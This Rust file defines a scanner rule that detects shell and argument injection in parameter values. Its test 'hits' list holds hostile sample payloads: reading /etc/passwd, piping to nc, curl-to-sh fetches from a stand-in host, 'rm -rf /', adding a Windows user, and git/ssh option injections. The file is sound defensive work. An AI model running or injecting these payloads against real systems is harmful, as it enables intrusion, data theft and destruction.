//! A value that breaks out of the argument it is meant for into a command of its own.

use std::ops::Range;

use memchr::{memchr_iter, memchr2, memchr3, memmem};

use super::behind::Attacks;
use super::checks::{SHELLS, is_startup, takes_code};
use super::command::attack;
use super::glance::{self, Begins};
use super::script::{Call, Command, RedirectKind};
use super::{files, names, padded, tokens};
use crate::rule::Rule;
use crate::scan::{Language, Look, Match, Parameter, Recognizer};
use crate::text::words::begins_with;

/// `threats/shell-injection`
pub static RULE: Rule = Rule {
    id: "threats/shell-injection",
    summary: "shell command in a value",
    why: "A tool that puts a value into a command line runs what stands behind the value's `;`, `|` or `$(`. Decided by what stands \
          there: a command with arguments as commands have them. Left alone: prose and code that use the same signs, Markdown, \
          tables, documents of several lines, and whole commands that break out of nothing.",
    source: "CWE-77, CWE-78 and CWE-88; OWASP, Command Injection; OWASP, OS Command Injection Defense Cheat Sheet",
    ..Rule::ATTACK
};

/// Finds commands in values.
pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
    rule: &RULE,
    entity: "CODE_INJECTION",
    region: None,
    look: Look::Parameter(find),
    hits: &[
        "8.8.8.8; cat /etc/passwd",
        "report.pdf && curl http://files.example/x -o /tmp/x",
        "Berlin | nc files.example 4444",
        "$(curl http://files.example/$(whoami))",
        "invoice`wget http://files.example/a`",
        "\"; rm -rf / #",
        "photo.png%0aid;cat%20/etc/passwd",
        "--upload-pack=touch /tmp/x",
        "-oProxyCommand=sh -c 'id'",
        "--log-file=/etc/cron.d/job",
        "() { :; }; /bin/sh -c id",
        "& ipconfig",
        "bash -c 'curl http://files.example/a | sh'",
        "cmd /c net user bob hunter22 /add",
        "bob\nrm -rf ~/work",
        r#"{"host": "; dir"}"#,
        r#"{"host": "127.0.0.1 || ping -c 10 127.0.0.1"}"#,
        "127.0.0.1 & type C:\\Windows\\win.ini",
    ],
    misses: &[
        "AT&T; call me",
        r#"{"unit": "m & s"}"#,
        "a | b",
        "Use `curl -O https://files.example/data.csv` to get the data, then open it.",
        "| id | name | date |\n|---|---|---|",
        "name; id; date",
        "https://shop.example/?q=shoes&sort=price&id=7",
        "Tom; cat is hungry; find me at home",
        "$(document).ready(function () { sleep(5); });",
        "const id = 5; kill(pid); return cat(x);",
        "build-$(date +%F)-$(git rev-parse HEAD)",
        "--output=json",
        "sh -c 'npm run build'",
        "() => { run(); }",
        "cd app && npm install && npm test",
        "rock & roll; more | less",
        "#!/bin/sh\nset -e\ncurl -O https://files.example/x\nrm -rf build\nmake\n",
    ],
}];

/// A longer value, or one of more lines, is a document: only its first and last line are looked at.
const VALUE_BYTES_MAX: usize = 2048;
const VALUE_LINES_MAX: usize = 4;
/// So many signs of a value are looked at, each so far.
pub(super) const SIGNS_MAX: usize = 48;
pub(super) const COMMAND_BYTES_MAX: usize = 512;

/// Where a value breaks out into a command.
pub fn find(parameter: &Parameter<'_>) -> Option<Match> {
    let text = parameter.text.trim_ascii_end();
    if parameter.is_key || parameter.language != Language::Undeclared || text.len() < 3 || parameter.holds_command() {
        return None;
    }
    let bytes = parameter.bytes();
    if is_document(text) {
        let span = if bytes.has_any(b";|&\n$-/") { padded::find(text) } else { None };
        return span.map(|span| Match { start: span.start, end: span.end, score: 0.8 });
    }
    let has_signs = || bytes.has_any(b";|&`\n$") && glance::may_attack(text, true);
    let by_shell = || if bytes.has_any(b"-/") && calls_shell(text) { attack(text) } else { None };
    let by_option = if bytes.has_any(b"-:(") { option(text) } else { None };
    let by_sign = || if has_signs() { breakout(text) } else { None };
    let by_line = || if bytes.has(b'%') { encoded_line(text) } else { None };
    let span = by_option.or_else(by_sign).or_else(by_line).or_else(by_shell)?;
    Some(Match { start: span.start, end: span.end, score: 0.8 })
}

/// Whether a value is a call of a shell that is handed a text to run: `sh -c '…'`, `cmd /c …`. No value is, whatever is expected.
pub(super) fn calls_shell(text: &str) -> bool {
    let mut words = text.split_ascii_whitespace();
    let name = words.next().map(|name| super::script::base_name(name.trim_matches(['"', '\''])));
    name.is_some_and(|name| SHELLS.contains(&&*name) && words.take(8).any(|word| takes_code(&name, word)))
}

fn is_document(text: &str) -> bool {
    text.len() > VALUE_BYTES_MAX || memchr_iter(b'\n', text.trim_ascii_end().as_bytes()).nth(VALUE_LINES_MAX - 1).is_some()
}

/// Options by which a program is made to run another: an argument that is none of the caller's (CWE-88).
const OPTIONS: &[&str] = &[
    "--upload-pack=",
    "--upload-pack ",
    "--receive-pack=",
    "-oproxycommand=",
    "-o proxycommand=",
    "-oproxycommand ",
    "--checkpoint-action=exec",
    "--use-askpass=",
    "--to-command=",
    "--open-files-in-pager=",
    "-ccore.sshcommand",
    "-c core.sshcommand",
    "--config=core.sshcommand",
    "-c core.pager=",
    "--rsh=sh",
    "--rsh=bash",
    "--rsync-path=sh",
    "--use-compress-program=sh",
    "--use-compress-program=bash",
    "--post-file=/",
    "--compress-program=sh",
    "-olocalcommand=",
    "--pre-command=",
    "--exec=sh",
    "--exec=/bin",
    "--exec='",
    "--eval=require",
];

/// Such an option at the value's start or behind a blank.
fn option(text: &str) -> Option<Range<usize>> {
    let is = |rest: &str| OPTIONS.iter().find(|option| begins_with(rest, option));
    let found = |at: usize| is(&text[at..]).map(|_| at..text.len());
    let start = text.len() - text.trim_start_matches([' ', '"', '\'']).len();
    if text[start..].starts_with('-')
        && let Some(span) = found(start)
    {
        return Some(span);
    }
    // An option that writes to where the system starts what it finds.
    let value = text[start..].strip_prefix('-').and_then(|option| option.split_once('='));
    if value.is_some_and(|(option, path)| !option.contains([' ', '/']) && is_startup(path) && path.starts_with(['/', '~'])) {
        return Some(start..text.len());
    }
    if text.starts_with("ext::") && text.len() > 6 || text.starts_with("ssh://-o") {
        return Some(0..text.len());
    }
    // A function in a value, with more behind it: bash took that for its own (CVE-2014-6271).
    let function = text.trim_start().strip_prefix("()").map(str::trim_start);
    if function.and_then(|rest| rest.strip_prefix('{')).is_some_and(|rest| rest.contains("};") || rest.contains("; }")) {
        return Some(0..text.len());
    }
    // All of them begin so.
    let may_be = |at: &usize| matches!(text.as_bytes().get(at + 2), Some(b'-' | b'o' | b'O' | b'c' | b'C'));
    memmem::find_iter(text.as_bytes(), b" -").take(8).filter(may_be).find_map(|at| found(at + 1))
}

/// What stands before a sign.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Host {
    /// A name, a number, an address: a value.
    Value,
    /// Sentences.
    Prose,
    /// One word that is also a command's name.
    Name,
    /// A command line of its own, which breaks out of nothing.
    Command,
}

/// How much a command looks like what an attacker wants.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd)]
pub(super) enum Grade {
    /// No command, or one that is an English word.
    None,
    /// A command with arguments as commands have them.
    Plain,
    /// One that fetches, removes, shows secrets, starts a shell.
    Strong,
}

pub(super) fn breakout(text: &str) -> Option<Range<usize>> {
    let bytes = text.as_bytes();
    let mut at = 0;
    let first_word_is_command = starts_with_command(text);
    let mut attacks = Attacks::new(text);
    for _ in 0..SIGNS_MAX {
        let sign = next_sign(bytes, at)?;
        let before = text[..sign].trim();
        let length = sign_length(bytes, sign);
        at = sign + length;
        let operator = &bytes[sign..at];
        let found = match operator {
            b"$(" => substitution(text, sign, before, first_word_is_command, b')'),
            b"`" => {
                let close = memchr::memchr(b'`', &bytes[at..]).map(|length| at + length);
                let found = close.and_then(|close| in_backticks(text, sign, close));
                // What is in it is code.
                at = close.map_or(at, |close| close + 1);
                found
            }
            _ => behind_operator(&mut attacks, sign, at, before, first_word_is_command),
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

/// A line's end in percent-encoding, which no value has, and a command behind it.
fn encoded_line(text: &str) -> Option<Range<usize>> {
    memchr_iter(b'%', text.as_bytes()).take(SIGNS_MAX).find_map(|at| {
        let code = text.get(at + 1..at + 3)?;
        if !code.eq_ignore_ascii_case("0a") && !code.eq_ignore_ascii_case("0d") {
            return None;
        }
        let rest = text[at + 3..].trim_start_matches("%20").trim_start_matches([' ', '+']);
        let line = rest.split('%').next().unwrap_or_default();
        let (grade, length) = grade(line, b";", "")?;
        let start = text.len() - rest.len();
        (grade > Grade::None).then_some(at..start + length)
    })
}

/// The next `;`, `|`, `&`, line's end, backtick or `$(`.
pub(super) fn next_sign(bytes: &[u8], mut at: usize) -> Option<usize> {
    loop {
        let rest = bytes.get(at..)?;
        let operator = memchr3(b';', b'|', b'&', rest);
        let rest = &rest[..operator.unwrap_or(rest.len())];
        let other = memchr3(b'`', b'\n', b'$', rest);
        let sign = at + other.or(operator)?;
        if bytes[sign] != b'$' || bytes.get(sign + 1) == Some(&b'(') {
            return Some(sign);
        }
        at = sign + 1;
    }
}

pub(super) fn sign_length(bytes: &[u8], sign: usize) -> usize {
    match (bytes[sign], bytes.get(sign + 1)) {
        (b'$', _) => 2,
        (b'|', Some(b'|')) | (b'&', Some(b'&')) => 2,
        _ => 1,
    }
}

fn behind_operator(
    attacks: &mut Attacks<'_>,
    sign: usize,
    from: usize,
    before: &str,
    first_is_command: bool,
) -> Option<Range<usize>> {
    let text = attacks.text;
    let bytes = text.as_bytes();
    let rest = text[from..].trim_start_matches([' ', '\t', '(']);
    let rest = rest.strip_prefix("{ ").unwrap_or(rest);
    let start = text.len() - rest.len();
    if !rest.starts_with(|first: char| {
        first.is_ascii_alphabetic() || matches!(first, '/' | '\\' | '\'' | '"' | '$' | '.' | '`' | '{')
    }) {
        return None;
    }
    let operator = &bytes[sign..from];
    let host = host(before, first_is_command);
    let graded = grade(rest, operator, before);
    let asks = match host {
        Host::Value => graded.is_none(),
        Host::Prose => operator != b"\n",
        Host::Name | Host::Command => false,
    };
    let attack = if asks { attacks.at(start) } else { None };
    let grade = graded.or_else(|| Some((Grade::None, attack?)))?;
    let is_fit = match host {
        Host::Value => true,
        Host::Name => grade.0 == Grade::Strong,
        Host::Prose | Host::Command => false,
    };
    // A table's line has more of its signs.
    let is_table = operator == b"|" && memchr_iter(b'|', line_around(text, sign).as_bytes()).nth(2).is_some();
    let is_line = operator == b"\n" && memchr_iter(b'\n', before.as_bytes()).next().is_some();
    let fits = is_fit && !(is_table && grade.0 < Grade::Strong) && !is_line;
    let attacks = host == Host::Prose && attack.is_some();
    (fits || attacks).then(|| sign..start + grade.1)
}

fn substitution(text: &str, sign: usize, before: &str, first_is_command: bool, close: u8) -> Option<Range<usize>> {
    let rest = &text[sign + 2..];
    let end = memchr::memchr(close, window(rest).as_bytes())?;
    // `$(id).hide()` is another language.
    if text.as_bytes().get(sign + 2 + end + 1) == Some(&b'.') && !rest[..end].contains(' ') {
        return None;
    }
    let (grade, _) = grade(rest.trim_start_matches('`'), b"$(", before)?;
    let is_fit = match host(before, first_is_command) {
        Host::Value => true,
        Host::Name | Host::Prose => grade == Grade::Strong,
        Host::Command => false,
    };
    is_fit.then_some(sign..sign + 2 + end + 1)
}

/// Backticks are Markdown's, but not in a value.
fn in_backticks(text: &str, sign: usize, close: usize) -> Option<Range<usize>> {
    let inside = &text[sign + 1..close];
    if inside.len() < 2 || inside.len() > COMMAND_BYTES_MAX {
        return None;
    }
    let (before, behind) = (&text[..sign], &text[close + 1..]);
    let is_glued = before
        .ends_with(|last: char| last.is_alphanumeric() || matches!(last, '/' | '.' | '=' | '-' | '_' | '"' | '\'' | ';'));
    let is_alone = before.trim().is_empty() && behind.trim().is_empty();
    let is_glued = is_glued
        || before.trim().is_empty()
            && matches!(behind.as_bytes(), [b'.' | b'/' | b'-', next, ..] if next.is_ascii_alphanumeric());
    let words = before.split_whitespace().count() + behind.split_whitespace().count();
    if !(is_glued || is_alone) || words > 6 {
        return None;
    }
    let (grade, _) = grade(inside, b"`", "")?;
    (grade == Grade::Strong || is_glued).then_some(sign..close + 1)
}

/// As much of a text as is looked at.
fn window(text: &str) -> &str {
    &text[..text.floor_char_boundary(COMMAND_BYTES_MAX.min(text.len()))]
}

fn line_around(text: &str, at: usize) -> &str {
    let start = text[..at].rfind('\n').map_or(0, |before| before + 1);
    let end = text[at..].find('\n').map_or(text.len(), |length| at + length);
    &text[start..end]
}

pub(super) fn host(before: &str, first_is_command: bool) -> Host {
    let words = before.split_whitespace().take(10).count();
    if first_is_command {
        return if words <= 1 { Host::Name } else { Host::Command };
    }
    if words > 8 || before.contains(". ") { Host::Prose } else { Host::Value }
}

/// Whether a text begins with a command's name.
pub(super) fn starts_with_command(text: &str) -> bool {
    // `list=$(…)` is a line of a script.
    let assigns = text.split_once('=').is_some_and(|(name, value)| {
        let value = value.trim_start_matches('"');
        let is_name =
            !name.is_empty() && name.len() <= 32 && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
        is_name && (value.starts_with("$(") || value.starts_with('`'))
    });
    if assigns {
        return true;
    }
    let word = text.trim_start().split([' ', '\n', '\t', ';', '|', '&']).next().unwrap_or_default();
    !word.is_empty() && word.len() <= 32 && names::starts_a_line(&super::script::base_name(word))
}

/// How much what stands there is a command, and how long it is.
pub(super) fn grade(rest: &str, operator: &[u8], before: &str) -> Option<(Grade, usize)> {
    let rest = window(rest);
    // In quotation marks and backticks a name may hold anything up to its last folder.
    let is_quoted = memchr3(b'\'', b'"', b'`', rest.as_bytes()).is_some();
    let may_be = is_quoted || glance::begins(rest.as_bytes(), 0) != Begins::Otherwise;
    if may_be { grade_read(rest, operator, before) } else { None }
}

/// The same without a first look.
pub(super) fn grade_read(rest: &str, operator: &[u8], before: &str) -> Option<(Grade, usize)> {
    let script = tokens::read(rest);
    let command = script.commands.first()?;
    let call = command.call();
    let name = call.words.first()?;
    // `sleep(5)` is a call of another language.
    let is_called = rest.as_bytes().get(name.span.end) == Some(&b'(') || name.raw.ends_with("()");
    let is_guessed = name.text.starts_with('/') && name.text.contains('?') && !name.text.contains('=');
    if is_guessed && !is_called {
        return Some((Grade::Strong, command.span.end));
    }
    if is_called || !names::is_command(&call.name) && !names::is_tool_of_attack(&call.name) {
        return None;
    }
    let grade = grade_of(&call, command, operator, before);
    (grade != Grade::None).then_some((grade, command.span.end))
}

fn grade_of(call: &Call<'_>, command: &Command<'_>, operator: &[u8], before: &str) -> Grade {
    let args: Vec<&str> = call
        .args()
        .iter()
        .map(|word| word.text.trim_matches(['"', '\'', '`', '#', ')']))
        .filter(|arg| !arg.is_empty())
        .collect();
    let redirects = !command.redirects.is_empty();
    let is_odd = call.words[0].is_hidden || call.words.iter().any(|word| word.is_hidden);
    if is_odd {
        return Grade::Strong;
    }
    let bare = args.iter().filter(|arg| is_plain_word(arg)).count();
    let technical = args.len() - bare;
    let is_argument_like = technical > 0 && bare <= 1 && args.len() <= 16;
    match &*call.name {
        "cat" | "type" | "head" | "tail" | "less" | "more" | "tac" | "strings" | "xxd" | "nl" | "base64" => {
            let of_system = args.iter().any(|arg| is_system_path(arg));
            if of_system
                || command
                    .redirects
                    .iter()
                    .any(|redirect| redirect.kind == RedirectKind::In && is_system_path(&redirect.target.text))
            {
                Grade::Strong
            } else if is_argument_like && args.iter().any(|arg| arg.contains(['/', '.', '*']) && !arg.ends_with('.')) {
                Grade::Plain
            } else {
                Grade::None
            }
        }
        "rm" | "del" | "rmdir" | "rd" | "shred" | "unlink" => {
            let has_option = args.iter().any(|arg| arg.starts_with('-') || arg.len() == 2 && arg.starts_with('/'));
            let has_path = args.iter().any(|arg| arg.contains(['/', '.', '*', '~']));
            if has_option && args.len() >= 2 && bare <= 2 {
                Grade::Strong
            } else if has_path && bare == 0 {
                Grade::Plain
            } else {
                Grade::None
            }
        }
        "curl" | "wget" | "nc" | "ncat" | "netcat" | "telnet" | "socat" | "fetch" | "certutil" | "ftp" | "tftp" | "iwr"
        | "irm" | "iex" | "mshta" | "bitsadmin" => {
            let is_target = |arg: &&str| arg.contains(['.', ':', '/', '$']) || arg.bytes().all(|byte| byte.is_ascii_digit());
            if args.iter().any(is_target) && bare <= 2 { Grade::Strong } else { Grade::None }
        }
        "bash" | "sh" | "zsh" | "dash" | "ksh" | "python" | "python2" | "python3" | "perl" | "ruby" | "php" | "node"
        | "powershell" | "pwsh" | "cmd" => {
            if args.is_empty() {
                // `curl … | sh` is in every manual.
                let is_fetched = before.contains("curl") || before.contains("wget") || before.contains("iwr");
                if operator == b"|" && !is_fetched { Grade::Plain } else { Grade::None }
            } else if args.iter().any(|arg| arg.starts_with(['-', '/'])) {
                Grade::Strong
            } else {
                Grade::None
            }
        }
        "sleep" | "timeout" => {
            let is_time = |arg: &&&str| arg.trim_end_matches(['s', 'm']).parse::<f64>().is_ok();
            if args.len() == 1 && args.iter().filter(is_time).count() == 1 { Grade::Plain } else { Grade::None }
        }
        "ping" | "nslookup" | "dig" | "host" | "traceroute" => {
            if is_argument_like && args.iter().any(|arg| arg.starts_with('-') || arg.contains('.') && !arg.ends_with('.')) {
                Grade::Plain
            } else {
                Grade::None
            }
        }
        "whoami" | "ifconfig" | "ipconfig" | "netstat" | "uname" | "systeminfo" | "printenv" | "ls" | "dir" | "pwd"
        | "ps" | "id" | "env" | "hostname" | "set" | "ver" => {
            let flags_only =
                args.iter().all(|arg| arg.starts_with(['-', '/', '~', '.']) || arg.contains('\\') || is_system_path(arg));
            if !flags_only {
                return Grade::None;
            }
            let is_word = matches!(&*call.name, "id" | "env" | "hostname" | "set" | "ver" | "ps" | "dir");
            let is_sure = match operator {
                b"$(" | b"`" => !matches!(&*call.name, "pwd" | "hostname" | "env" | "set" | "dir" | "ver"),
                b"&" | b"&&" if before.is_empty() => true,
                b"&" | b"\n" => {
                    !is_word && !args.is_empty() || call.is(&["whoami", "ifconfig", "ipconfig", "systeminfo", "netstat"])
                }
                b"|" => !is_word || !args.is_empty(),
                _ => !is_word || is_technical(before),
            };
            if is_sure { Grade::Plain } else { Grade::None }
        }
        "chmod" | "chown" | "dd" | "mkfs" | "mkfifo" | "useradd" | "crontab" | "xterm" | "mknod" => {
            if is_argument_like {
                Grade::Strong
            } else {
                Grade::None
            }
        }
        "net" => {
            if args.first().is_some_and(|arg| matches!(*arg, "user" | "localgroup" | "share" | "view")) {
                Grade::Strong
            } else {
                Grade::None
            }
        }
        "reg" | "schtasks" | "netsh" => {
            let is_order = args.first().is_some_and(|arg| {
                matches!(
                    arg.to_ascii_lowercase().trim_start_matches('/'),
                    "add" | "save" | "delete" | "query" | "create" | "firewall" | "advfirewall"
                )
            });
            if is_order { Grade::Strong } else { Grade::None }
        }
        "shutdown" | "reboot" | "halt" | "poweroff" | "kill" | "killall" | "pkill" => {
            if args.iter().any(|arg| arg.starts_with(['-', '/'])) && bare <= 1
                || args.is_empty() && call.is(&["reboot", "poweroff"]) && operator != b"|"
            {
                Grade::Plain
            } else {
                Grade::None
            }
        }
        "echo" | "printf" => {
            let writes = command
                .redirects
                .iter()
                .any(|redirect| redirect.target.text.contains(['/', '.']) || redirect.kind == RedirectKind::Append);
            let substitutes = args.iter().any(|arg| arg.contains("$()"));
            if writes || substitutes { Grade::Plain } else { Grade::None }
        }
        "sudo" | "su" => {
            if args.iter().any(|arg| arg.starts_with('-')) {
                Grade::Plain
            } else {
                Grade::None
            }
        }
        // They only pass on what others give.
        "sed" | "awk" | "gawk" | "cut" | "wc" | "sort" | "tr" | "xargs" | "rev" | "git" | "ln" | "date" | "tee" => {
            Grade::None
        }
        _ => {
            if is_argument_like && (args.iter().any(|arg| arg.starts_with(['-', '/', '~']) && arg.len() > 1) || redirects) {
                Grade::Plain
            } else {
                Grade::None
            }
        }
    }
}

/// A word of a sentence: letters and what sentences put behind them.
fn is_plain_word(text: &str) -> bool {
    text.trim_end_matches(['.', ',', '!', '?', ':', ';', ')'])
        .bytes()
        .all(|byte| byte.is_ascii_alphabetic() || byte >= 0x80 || byte == b'\'' || byte == b'-')
        && !text.starts_with('-')
}

fn is_system_path(path: &str) -> bool {
    const FOLDERS: &[&str] = &["/etc/", "/proc/", "/root/", "/var/log/", "/home/", "c:\\windows", "c:/windows", "/windows/"];
    let lower = path.to_ascii_lowercase();
    files::is_secret(path) || FOLDERS.iter().any(|folder| lower.contains(folder)) || lower == "/etc" || lower == "/"
}

/// Whether what stands before is a value of a machine: nothing, an address, a file, a quoted text.
fn is_technical(before: &str) -> bool {
    before.ends_with(['"', '\'', ')'])
        || before.is_empty()
        || !before.contains(' ') && memchr2(b'.', b'/', before.as_bytes()).is_some() && !before.ends_with('.')
}
